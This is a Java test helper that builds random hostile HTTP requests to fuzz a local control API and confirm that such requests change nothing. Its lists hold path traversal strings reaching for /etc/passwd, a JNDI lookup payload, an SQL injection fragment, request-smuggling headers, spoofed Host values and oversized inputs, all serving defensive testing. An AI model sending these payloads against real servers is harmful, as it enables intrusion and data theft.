package io.crossfade.control.http;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Random;

/** Requests that must change nothing, by chance. */
final class HostileRequest {
    private static final List<String> PATHS = List.of(
            "/api/v1/things/..%2f..%2fthings",
            "/api/v1/things/..%252f..%252fthings",
            "/api/v1/things/%2e%2e/things",
            "/api/v1/things/%00",
            "/api/v1/things/lamp%00.json",
            "/api/v1/../../etc/passwd",
            "/api/v1/..;/things",
            "/api/v1/things;jsessionid=1",
            "/api/v1//things",
            "/api/v1/things/\\..\\..",
            "/api/v1/things/%c0%ae%c0%ae",
            "/api/v1/things/%ff%fe",
            "/api/v1/things/%zz",
            "/api/v1/things/%",
            "/api/v1/things?limit=%00",
            "/api/v1/things?limit=${jndi:ldap://x.example/a}",
            "/api/v1/things/${jndi:ldap:%2f%2fx.example}",
            "/api/v1/things?limit=1;drop%20table%20x",
            "//evil.example/api/v1/things",
            "http://evil.example/api/v1/things",
            "*",
            "things");
    private static final List<String> TYPES = List.of(
            "text/plain",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/xml",
            "x");
    private static final List<String> HOSTS = List.of(
            "evil.example", "localhost.evil.example", "localhost@evil.example", "", "a b", "[::1", "127.0.0.1.nip.io");
    private static final List<String> FRAMES = List.of(
            "Content-Length: 5\r\nContent-Length: 6",
            "Content-Length: -1",
            "Content-Length: 99999999999999999999",
            "Content-Length: 5\r\nTransfer-Encoding: chunked",
            "Transfer-Encoding: chunked, identity",
            "Transfer-Encoding: xchunked",
            "Content-Length: 5, 5");
    private static final List<String> METHODS =
            List.of("PUT", "PATCH", "TRACE", "CONNECT", "OPTIONS", "PROPFIND", "post", "GET\t", "X".repeat(300));

    private final String kind;
    private final byte[] bytes;
    private final boolean awaited;

    /** @param awaited whether the server can know that all of it has come */
    private HostileRequest(String kind, byte[] bytes, boolean awaited) {
        this.kind = kind;
        this.bytes = bytes;
        this.awaited = awaited;
    }

    byte[] bytes() {
        return bytes;
    }

    boolean isAwaited() {
        return awaited;
    }

    /** @param token an operator's */
    static HostileRequest by(Random random, String token) {
        String login = "Authorization: Bearer " + token + "\r\n";
        String good = post(login, "Host: localhost\r\n", "application/json", Shelf.LAMP_JSON);
        int cut = random.nextInt(Shelf.LAMP_JSON.length());
        return switch (random.nextInt(16)) {
            case 0 ->
                text(
                        "cut JSON",
                        post(login, "Host: localhost\r\n", "application/json", Shelf.LAMP_JSON.substring(0, cut)));
            case 1 -> text("noise as JSON", post(login, "Host: localhost\r\n", "application/json", noise(random, 200)));
            case 2 ->
                text(
                        "huge",
                        head("POST", "/api/v1/things", login, "Host: localhost\r\n")
                                + "Content-Type: application/json\r\nContent-Length: 10000000000\r\n\r\n"
                                + "x".repeat(1000));
            case 3 -> text("huge in chunks", chunked(login, random));
            case 4 -> text("path", head("GET", any(random, PATHS), login, "Host: localhost\r\n") + "\r\n");
            case 5 -> text("no token", post("", "Host: localhost\r\n", "application/json", Shelf.LAMP_JSON));
            case 6 ->
                text(
                        "wrong token",
                        post(
                                "Authorization: Bearer cfd_" + random.nextLong() + "\r\n",
                                "Host: localhost\r\n",
                                "application/json",
                                Shelf.LAMP_JSON));
            case 7 ->
                text("host", post(login, "Host: " + any(random, HOSTS) + "\r\n", "application/json", Shelf.LAMP_JSON));
            case 8 -> text("type", post(login, "Host: localhost\r\n", any(random, TYPES), Shelf.LAMP_JSON));
            case 9 -> new HostileRequest("cut", bytes(good.substring(0, random.nextInt(good.length()))), false);
            case 10 -> new HostileRequest("noise", noise(random), false);
            case 11 ->
                text(
                        "frame",
                        head("POST", "/api/v1/things", login, "Host: localhost\r\n")
                                + "Content-Type: application/json\r\n" + any(random, FRAMES) + "\r\n\r\n0\r\n\r\n");
            case 12 ->
                text(
                        "headers",
                        head("GET", "/api/v1/things", "X-Much: " + "x".repeat(100_000) + "\r\n", "Host: localhost\r\n")
                                + "\r\n");
            case 13 ->
                text("method", head(any(random, METHODS), "/api/v1/things", login, "Host: localhost\r\n") + "\r\n");
            case 14 ->
                text(
                        "cookie",
                        post(
                                "Cookie: crossfade-session=" + random.nextLong() + "; =; \"\r\nX-Crossfade: 1\r\n",
                                "Host: localhost\r\n",
                                "application/json",
                                Shelf.LAMP_JSON));
            default ->
                text(
                        "unknown field",
                        post(
                                login,
                                "Host: localhost\r\n",
                                "application/json",
                                Shelf.LAMP_JSON.replaceFirst(
                                        "\\{",
                                        "{\"x" + random.nextInt() + "\": " + "[".repeat(random.nextInt(2000))
                                                + "1, ")));
        };
    }

    private static String head(String method, String path, String login, String host) {
        return method + " " + path + " HTTP/1.1\r\nConnection: close\r\n" + host + login;
    }

    private static String post(String login, String host, String type, String body) {
        return head("POST", "/api/v1/things", login, host) + "Content-Type: " + type + "\r\nContent-Length: "
                + bytes(body).length + "\r\n\r\n" + body;
    }

    private static String chunked(String login, Random random) {
        String size = random.nextBoolean() ? "20000" : "zz";
        return head("POST", "/api/v1/things", login, "Host: localhost\r\n")
                + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
                + (size + "\r\n" + " ".repeat(0x20000) + "\r\n").repeat(3);
    }

    private static String noise(Random random, int length) {
        StringBuilder text = new StringBuilder("{");
        random.ints(length, 0, 0x500).forEach(text::appendCodePoint);
        return text.toString();
    }

    private static byte[] noise(Random random) {
        byte[] bytes = new byte[1 + random.nextInt(500)];
        random.nextBytes(bytes);
        return bytes;
    }

    private static String any(Random random, List<String> of) {
        return of.get(random.nextInt(of.size()));
    }

    private static HostileRequest text(String kind, String request) {
        return new HostileRequest(kind, bytes(request), true);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    @Override
    public String toString() {
        return kind + ": " + new String(Arrays.copyOf(bytes, Math.min(bytes.length, 300)), StandardCharsets.UTF_8);
    }
}
